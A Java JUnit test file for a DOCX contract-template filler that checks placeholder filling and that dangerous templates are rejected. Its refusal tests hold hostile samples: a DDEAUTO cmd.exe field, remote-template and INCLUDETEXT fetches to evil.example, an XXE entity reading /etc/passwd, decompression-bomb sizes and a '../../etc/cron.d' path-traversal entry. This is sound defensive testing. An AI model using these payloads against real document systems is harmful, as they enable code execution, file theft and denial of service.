package org.dukou.document.print;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.dukou.kernel.Invalid;
import org.dukou.kernel.paper.Facts;
import org.junit.jupiter.api.Test;

/** Templates are filled by name and by nothing else; what could run, fetch or blow up does not come in. */
class DocxTest {

    private static final String TEXT = """
            # 合同
            受让方：{{受让方}}，价款 {{价款}} 元。
            |: 50 50
            |! 期次 | 金额 |
            | {{付款.期次}} | {{付款.金额}} |
            """;

    private static final Merge MERGE =
            new Merge(Map.of("taker", "受让方", "price", "价款", "payments.label", "付款.期次", "payments.amount", "付款.金额"));

    /** Read back by another library than the one that wrote it. */
    @Test
    void fieldsAreFilledAndRowsRepeat() throws IOException {
        Facts facts = Facts.sheet()
                .say("taker", "重庆 <某某> & 公司")
                .say("price", "400,000.00")
                .row("payments", "label", "首付", "amount", "100,000.00")
                .row("payments", "label", "尾款", "amount", "300,000.00")
                .done();
        assertThat(read(MERGE.fill(Manuscript.set(TEXT), facts)))
                .contains("受让方：重庆 <某某> & 公司，价款 400,000.00 元。", "首付\t100,000.00", "尾款\t300,000.00")
                .doesNotContain("{{", "无");
    }

    @Test
    void whereThereIsNothingToSayItSaysSo() throws IOException {
        assertThat(read(MERGE.fill(
                        Manuscript.set(TEXT), Facts.sheet().say("taker", "甲").done())))
                .contains("价款 无 元", "无\t无");
    }

    @Test
    void aPlaceThatWordCutIntoPiecesIsFilledAllTheSame() throws IOException {
        byte[] cut = Parcel.of("{{受让方}}和{{受让方}}")
                .changed(
                        "word/document.xml",
                        xml -> xml.replaceFirst(
                                "\\{\\{受让方",
                                "{</w:t></w:r><w:proofErr w:type=\"spellStart\"/><w:r><w:t>{受</w:t></w:r><w:r><w:t>让方"))
                .packed();
        assertThat(read(MERGE.fill(
                        Docx.read(cut), Facts.sheet().say("taker", "乙").done())))
                .contains("乙和乙");
    }

    /** A name that looks like a place is a name. */
    @Test
    void whatWasFilledInIsNotFilledAgain() throws IOException {
        Facts facts = Facts.sheet()
                .say("taker", "{{价款}}")
                .say("price", "1.00")
                .row("payments", "label", "{{价款}}", "amount", "{{没有}}")
                .done();
        assertThat(read(MERGE.fill(Manuscript.set(TEXT), facts))).contains("受让方：{{价款}}，", "{{价款}}\t{{没有}}");
    }

    @Test
    void aFieldThatThePaperHasNotIsNamed() {
        assertFault("document/template-field-unknown", "受让方.getClass()", "{{受让方.getClass()}}");
        assertFault("document/template-field-unknown", "#1+1", "{{#1+1}}");
        assertFault("document/template-field-open", "价款 {{受让方", "价款 {{受让方");
    }

    private static void assertFault(String slug, String named, String text) {
        assertThatThrownBy(() -> MERGE.fieldsOf(Manuscript.set(text)))
                .isInstanceOfSatisfying(Invalid.class, invalid -> {
                    assertThat(invalid.slug()).isEqualTo(slug);
                    assertThat(invalid.facts()).containsExactly(named);
                });
    }

    @Test
    void macrosControlsAndEmbeddedObjectsAreRefused() {
        refused("document/template-runs", Parcel.of(TEXT).with("word/vbaProject.bin", new byte[] {1, 2, 3}));
        refused("document/template-runs", Parcel.of(TEXT).with("word/activeX/activeX1.xml", "<x/>"));
        refused("document/template-runs", Parcel.of(TEXT).with("word/embeddings/oleObject1.bin", new byte[] {1}));
        refused(
                "document/template-runs",
                Parcel.of(TEXT)
                        .changed(
                                "[Content_Types].xml",
                                xml -> xml.replace(
                                        "wordprocessingml.document.main+xml", "document.macroEnabled.main+xml")));
        refused(
                "document/template-runs",
                Parcel.of(TEXT).changed("word/document.xml", xml -> xml.replace("<w:body>", "<w:body><w:altChunk/>")));
    }

    @Test
    void whatFetchesSomethingIsRefused() {
        for (String target : new String[] {"http://evil.example/t.dotm", "file:///etc/passwd", "\\\\\\\\host\\share"}) {
            refused(
                    "document/template-fetches",
                    Parcel.of(TEXT)
                            .changed(
                                    "word/_rels/document.xml.rels",
                                    xml -> xml.replace(
                                            "</Relationships>",
                                            "<Relationship Id=\"rId9\" Type=\"attachedTemplate\" Target=\"" + target
                                                    + "\" TargetMode=\"External\"/></Relationships>")));
        }
        for (String field : new String[] {
            "DDEAUTO c:\\windows\\cmd.exe", "INCLUDETEXT \"http://evil.example\"", "INCLUDEPICTURE x", "HYPERLINK x"
        }) {
            refused(
                    "document/template-fetches",
                    Parcel.of(TEXT)
                            .changed(
                                    "word/document.xml",
                                    xml -> xml.replace(
                                            "<w:body>",
                                            "<w:body><w:p><w:r><w:instrText>" + field.replace("\"", "&quot;")
                                                    + "</w:instrText></w:r></w:p>")));
        }
    }

    @Test
    void documentTypesEntitiesAndBombsAreRefused() {
        refused(
                "document/template-broken",
                Parcel.of(TEXT)
                        .with(
                                "word/document.xml",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
        refused("document/template-too-large", Parcel.of(TEXT).with("word/media/zero.png", new byte[60_000_000]));
        Parcel many = Parcel.of(TEXT);
        for (int i = 0; i < 500; i++) {
            many.with("word/media/" + i + ".png", new byte[1]);
        }
        refused("document/template-too-large", many);
        refused("document/template-not-word", Parcel.of(TEXT).with("../../etc/cron.d/x", "x"));
        assertThatThrownBy(() -> Docx.read("我不是 Word".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(
                        Invalid.class, invalid -> assertThat(invalid.slug()).isEqualTo("document/template-not-word"));
    }

    private static void refused(String slug, Parcel parcel) {
        assertThatThrownBy(() -> Docx.read(parcel.packed()))
                .isInstanceOfSatisfying(
                        Invalid.class, invalid -> assertThat(invalid.slug()).isEqualTo(slug));
    }

    private static String read(Docx docx) throws IOException {
        try (XWPFDocument word = new XWPFDocument(new ByteArrayInputStream(docx.write()));
                XWPFWordExtractor text = new XWPFWordExtractor(word)) {
            return text.getText();
        }
    }
}
